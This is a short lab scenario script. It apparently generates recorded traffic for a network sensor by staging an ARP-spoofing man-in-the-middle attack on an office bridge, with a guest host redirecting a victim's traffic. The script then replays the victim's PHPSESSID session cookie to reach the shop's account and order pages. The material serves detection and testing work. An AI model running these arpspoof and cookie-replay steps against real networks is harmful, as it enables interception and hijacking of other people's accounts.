# A guest on the office network redirects the victim's traffic with arpspoof, reads the cookie and uses it.
# The sensor is on a mirror port: the bridge behaves as a hub.
ip_on gw link set br-office type bridge ageing_time 0
on guest sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
record gw br-office
browser alice
login alice alice
browse alice click '#orders'

start_on guest arpspoof -i eth0 -t 198.51.100.7 198.51.100.1
spoofer=$!
sleep 3
browse alice open http://shop.test/cart
stolen=$(browse alice cookie PHPSESSID http://shop.test/)
sleep 1
http guest -b "PHPSESSID=$stolen" http://shop.test/account
sleep 2
browse alice open http://shop.test/account
sleep 1
http guest -b "PHPSESSID=$stolen" http://shop.test/orders
sleep 2
browse alice open http://shop.test/orders
stop "$spoofer"
